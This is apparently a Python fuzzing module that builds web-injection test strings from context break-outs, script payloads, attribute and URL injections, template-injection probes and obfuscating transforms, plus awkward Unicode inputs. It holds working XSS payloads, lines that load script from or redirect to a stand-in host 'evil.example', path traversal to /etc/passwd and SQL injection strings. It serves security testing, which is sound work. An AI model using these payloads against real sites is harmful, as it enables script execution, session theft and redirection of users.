"""Texts that strangers could choose to harm whoever looks at them: contexts x events x disguises, and odd Unicode.

Drawn up by rule, not collected: each opens the context that it may have been put into, then brings a script along.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import product
from urllib.parse import quote

# How to get out of where a text was put, if nobody kept it in.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</style>",
    "--><!-->",
    "]]>",
    "</noscript>",
)
# What runs once it is out.
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></table><img src=x onerror=alert(1)></math>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
)
# In an attribute that was not quoted, or quoted otherwise.
_ATTRIBUTES = (
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    " autofocus onfocus=alert(1) x=",
    '" onpointerenter="alert(1)',
    '" style="background:url(//evil.example/x)',
    '" srcset="//evil.example/x.png',
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/\"onmouseover='alert(1)'",
)
# In a template of ours, in a template of JavaScript's, in JSON.
_TEMPLATES = (
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "#{7*7}",
    '"};alert(1);//',
    "\\u003cscript\\u003e",
)

_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.swapcase(),
    escape,
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("alert", "al\u200bert").replace("<", "<\t"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("(", "`").replace(")", "`"),
)

ODDITIES = (
    "\u202egnitaroced pmal",  # written from the right
    "\u2066isolated\u2069 \u200fmark\u200e",
    "a\u0300\u0301\u0302\u0303\u0304\u0305" * 20,  # marks piled up
    "W" * 300,
    "字" * 300,
    "﷽" * 40,
    "👩\u200d👩\u200d👧\u200d👦" * 30,
    "\u200b\u200c\u200d\ufeff",
    "\u00ad".join("shy"),
    "İıſßﬀŉ",
    "\ufdd0\uffff",  # no characters
    "\u0085\u2028\u2029line",
    "-1e400, NaN, Infinity, 1/0",
    "null undefined None true",
    "=1+1",
    "../../../../etc/passwd",
    "%s%n%x",
    "' OR 1=1 --",
    "Robert'); DROP TABLE suspects;--",
    " ",
)


def payloads() -> Iterator[str]:
    """All of them, each once."""
    out = (way + script for way, script in product(_WAYS_OUT, _SCRIPTS))
    plain = [*out, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES]
    disguised = (disguise(text) for disguise in _DISGUISES for text in (*_SCRIPTS, *_ATTRIBUTES, *_ADDRESSES))
    yield from dict.fromkeys((*plain, *disguised, *ODDITIES))
